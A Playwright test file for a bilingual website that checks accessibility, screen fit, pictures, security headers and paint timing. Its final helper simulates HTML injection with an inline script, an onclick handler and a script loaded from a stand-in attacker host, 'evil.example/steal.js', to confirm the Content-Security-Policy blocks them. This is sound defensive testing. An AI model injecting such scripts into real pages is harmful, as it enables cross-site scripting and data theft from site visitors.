import { brokenPictures, expectAccessible, overflowOf, scrollThroughPage } from './support/axe';
import { content } from './support/content';
import { missing, more, pages } from './support/pages';
import { expectSecurityHeaders, expectStrict } from './support/policy';
import { addStyle } from './support/style';
import { expect, test, type Page } from './support/test';
import { watchViolations } from './support/policy-violations';
import { watchRouter } from './support/router-requests';

// Pages with animations, or with content that loads when it comes into view.
const story = `/biography/${content.stories[0]}`;
const animated = ['/', '/de', '/news', '/de/news', '/press', story, '/tours'];
// `npm test`, and the other engines, check English pages on a phone and German pages on a desktop. Chromium checks both on
// both every night.
const isNightly = process.env.TEST_SCOPE !== 'gate';

for (const path of [...pages, ...more, ...missing]) {
  const title = `${path} is accessible, fits every screen, shows its pictures, and runs only allowed code`;
  test(title, { tag: more.includes(path) ? '@nightly' : [] }, async ({ page, browserName }) => {
    test.setTimeout(120_000);
    const violations = await watchViolations(page);
    const requestedByRouter = watchRouter(page);
    const isAnimated = animated.includes(path);
    await page.emulateMedia({ reducedMotion: isAnimated ? 'no-preference' : 'reduce' });
    const isGerman = /^\/de(\/|$)/.test(path);
    const isBoth = isNightly && browserName === 'chromium';
    const widths = isBoth ? [390, 1440] : [isGerman ? 1440 : 390];
    await page.setViewportSize({ width: widths[0]!, height: 900 });
    const response = (await page.goto(path))!;
    const isMissing = missing.includes(path);
    expect(response.status()).toBe(isMissing ? 404 : 200);
    const headers = await response.allHeaders();
    expectStrict(headers['content-security-policy']);
    expectSecurityHeaders(response.url(), headers);
    for (const width of widths) {
      await page.setViewportSize({ width, height: 900 });
      await scrollThroughPage(page);
      expect(await page.evaluate(brokenPictures)).toEqual([]);
      await expectAccessible(page);
    }

    for (const width of [390, 1440, 320]) {
      await page.setViewportSize({ width, height: 900 });
      expect(await overflowOf(page), `at ${width} px`).toBe(0);
    }
    await addStyle(page, 'html { font-size: 200% }');
    expect(await overflowOf(page)).toBe(0);

    // Every page has the control that stops all motion.
    await expect(page.locator('#motion')).toHaveCount(1);

    await expectHydrated(page);
    violations.expectNone(isMissing ? response.url() : undefined);
    expect(requestedByRouter).toEqual([]);

    await attack(page);
    await expect
      .poll(() => violations.stopped.map((each) => each.split(' ')[1]).sort())
      .toEqual(['script-src-attr', 'script-src-elem', 'script-src-elem']);
    expect(await page.evaluate(() => (window as { isBroken?: string }).isBroken)).toBeUndefined();
  });
}

async function expectHydrated(page: Page): Promise<void> {
  await expect
    .poll(() => page.evaluate(() => Object.keys(document.body).join().includes('__react')))
    .toBe(true);
}

for (const path of ['/', '/de/news', content.post.path, '/events', '/press', '/nope']) {
  // Only Chromium reports the time of its first paint.
  const tag = path === '/' ? '@chromium' : ['@chromium', '@nightly'];
  test(`${path} is painted before it requests a script`, { tag }, async ({ page }) => {
    await page.goto(path);
    const { firstPaint, scriptStarts } = await page.evaluate(() => ({
      firstPaint: performance.getEntriesByName('first-paint')[0]!.startTime,
      scriptStarts: performance
        .getEntriesByType('resource')
        .filter(({ name }) => name.endsWith('.js'))
        .map(({ startTime }) => startTime),
    }));
    expect(scriptStarts.length).toBeGreaterThan(3);
    expect(Math.min(...scriptStarts)).toBeGreaterThan(firstPaint);
  });
}

/** Tries what an attacker could do who has injected HTML into the page. */
async function attack(page: Page): Promise<void> {
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.isBroken = "by an inline script"';
    document.body.append(script);
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.isBroken = "by an attribute"');
    button.click();
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/steal.js';
    document.body.append(foreign);
  });
}
